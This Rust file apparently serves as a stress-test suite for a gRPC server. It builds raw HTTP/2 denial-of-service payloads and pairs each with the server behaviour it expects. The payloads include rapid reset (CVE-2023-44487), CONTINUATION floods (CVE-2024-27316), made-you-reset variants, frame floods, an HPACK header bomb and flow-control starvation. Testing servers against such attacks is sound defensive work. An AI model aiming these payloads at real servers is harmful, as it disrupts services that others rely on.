//! Attacks by frames of HTTP/2.

use super::attack::{Attack, CALM_DOWN, CLOSED, HELD, TAKEN};
use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, End, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY, RESET, SETTINGS,
    WINDOW_UPDATE, call, frame, get, header, length, message, opening,
};

const HELLO: &str = "/gc.v1.SystemService/Hello";
/// How many times a frame, or a few that belong together, are sent.
const TIMES: u32 = 20_000;

/// What is sent on each of many streams, behind the beginning of a connection.
fn streams(times: u32, each: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let streams = (0..times).flat_map(|index| each(2 * index + 1));
    opening(None).into_iter().chain(streams).collect()
}

/// More than the kernel keeps for who does not read.
fn over_and_over(frame: &[u8]) -> Vec<u8> {
    [opening(None), frame.repeat(500_000)].concat()
}

/// A call whose message has not come yet.
pub fn open(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &call(HELLO))
}

/// A call that is whole.
fn whole(stream: u32) -> Vec<u8> {
    [open(stream), frame(DATA, END_STREAM, stream, &message(false, 0, &[]))].concat()
}

pub fn attacks() -> Vec<Attack> {
    let reset = |stream| frame(RESET, 0, stream, &[0, 0, 0, 8]);
    let grant = |stream, bytes: u32| frame(WINDOW_UPDATE, 0, stream, &bytes.to_be_bytes());
    let ping = frame(PING, 0, 0, &[7; 8]);
    let without_end = |payload: &[u8]| {
        let first = frame(HEADERS, 0, 1, &call(HELLO));
        [opening(None), first, frame(CONTINUATION, 0, 1, payload).repeat(2_000)].concat()
    };
    let of_length_9 = [call(HELLO), header("content-length", b"9")].concat();
    vec![
        Attack::new(
            "rapid reset (CVE-2023-44487)",
            streams(TIMES, |stream| [open(stream), reset(stream)].concat()),
            CALM_DOWN,
        ),
        Attack::new(
            "rapid reset, with pauses for the server",
            streams(TIMES, |stream| [open(stream), reset(stream), ping.repeat(20)].concat()),
            CALM_DOWN,
        ),
        Attack::new("CONTINUATION without end (CVE-2024-27316)", without_end(&header("x-a", &[b'x'; 8000])), CALM_DOWN),
        Attack::new("CONTINUATION, empty", without_end(&[]), CALM_DOWN),
        Attack::new(
            "requests without a method",
            streams(TIMES, |stream| frame(HEADERS, 5, stream, &[0x86])),
            CALM_DOWN,
        ),
        Attack::new(
            "made-you-reset: a window of 0 (CVE-2025-8671)",
            streams(TIMES, |stream| [open(stream), grant(stream, 0)].concat()),
            CALM_DOWN,
        ),
        Attack::new(
            "made-you-reset: a window too wide",
            streams(TIMES, |stream| [open(stream), grant(stream, i32::MAX.unsigned_abs())].concat()),
            CALM_DOWN,
        ),
        Attack::new(
            "made-you-reset: a stream behind itself",
            streams(TIMES, |stream| {
                let itself = [&stream.to_be_bytes()[..], &[0]].concat();
                [open(stream), frame(PRIORITY, 0, stream, &itself)].concat()
            }),
            CALM_DOWN,
        ),
        Attack::new(
            "made-you-reset: more after the end",
            streams(TIMES, |stream| [whole(stream), frame(DATA, 0, stream, b"more")].concat()),
            CALM_DOWN,
        ),
        Attack::new(
            "made-you-reset: a wrong content-length",
            streams(TIMES, |stream| {
                [frame(HEADERS, END_HEADERS, stream, &of_length_9), frame(DATA, END_STREAM, stream, &[0; 5])].concat()
            }),
            CALM_DOWN,
        ),
        Attack::new("more streams than there may be", streams(TIMES, open), CALM_DOWN),
        Attack::new("PING", over_and_over(&ping), CALM_DOWN),
        Attack::deaf("PING, answers unread", over_and_over(&ping), HELD),
        Attack::new("SETTINGS", over_and_over(&frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff])), CALM_DOWN),
        Attack::deaf("SETTINGS, answers unread", over_and_over(&frame(SETTINGS, 0, 0, &[])), HELD),
        Attack::new("empty DATA", [opening(None), open(1), frame(DATA, 0, 1, &[]).repeat(20_000)].concat(), CALM_DOWN),
        Attack::new("PRIORITY", over_and_over(&frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])), CALM_DOWN),
        Attack::new("WINDOW_UPDATE", over_and_over(&grant(0, 1)), CALM_DOWN),
        Attack::new("frames of no known kind", over_and_over(&frame(0xfa, 0, 0, &[0; 8])), CALM_DOWN),
        Attack::new("no window for 256 answers", no_window(), TAKEN),
        Attack::new("a window of one byte", narrow(), CALM_DOWN),
        Attack::new("a header that repeats another", header_bomb(), CALM_DOWN),
        Attack::new(
            "messages that say they have 4 GiB",
            streams(2_000, |stream| {
                [open(stream), frame(DATA, 0, stream, &message(false, u32::MAX, &[0; 50]))].concat()
            }),
            &[End::Taken, End::GoAway(11), End::Closed],
        ),
        Attack::new(
            "more than the window",
            streams(100, |stream| [open(stream), frame(DATA, 0, stream, &[0; 16_384]).repeat(20)].concat()),
            &[End::GoAway(3), End::Closed],
        ),
        // Each of 256 streams has all that it may, and the others are refused.
        Attack::new("headers as long as they may be", streams(2_000, |stream| long(stream, 3_800)), CALM_DOWN),
        Attack::new("headers that are too long", streams(2_000, |stream| long(stream, 4_200)), TAKEN),
        Attack::new("no preface", b"PRJ * HTTP/2.0\r\n\r\nSM\r\n\r\n".repeat(100), CLOSED),
    ]
}

/// A call with two long headers.
fn long(stream: u32, each: usize) -> Vec<u8> {
    let value = vec![b'x'; each];
    frame(HEADERS, END_HEADERS, stream, &[call(HELLO), header("x-a", &value), header("x-b", &value)].concat())
}

/// Asks for as many answers as there may be at once, on each of which nothing may be sent.
fn no_window() -> Vec<u8> {
    let asks = |index: u32| frame(HEADERS, END_HEADERS | END_STREAM, 2 * index + 1, &get("/metrics"));
    opening(Some((INITIAL_WINDOW_SIZE, 0))).into_iter().chain((0..256).flat_map(asks)).collect()
}

/// Takes an answer byte by byte.
fn narrow() -> Vec<u8> {
    let asks = |index: u32| frame(HEADERS, END_HEADERS | END_STREAM, 2 * index + 1, &get("/metrics"));
    let grants = (0..TIMES).flat_map(|turn| frame(WINDOW_UPDATE, 0, 2 * (turn % 16) + 1, &1_u32.to_be_bytes()));
    opening(Some((INITIAL_WINDOW_SIZE, 1))).into_iter().chain((0..16).flat_map(asks)).chain(grants).collect()
}

/// Has a long header remembered, and names it in one byte from then on.
fn header_bomb() -> Vec<u8> {
    let value = [b'x'; 3900];
    let remembered = [&[0x40][..], &[3], b"x-a", &length(value.len()), &value].concat();
    let bomb = [call(HELLO), remembered, vec![0xbe; 8000]].concat();
    streams(200, |stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &bomb))
}
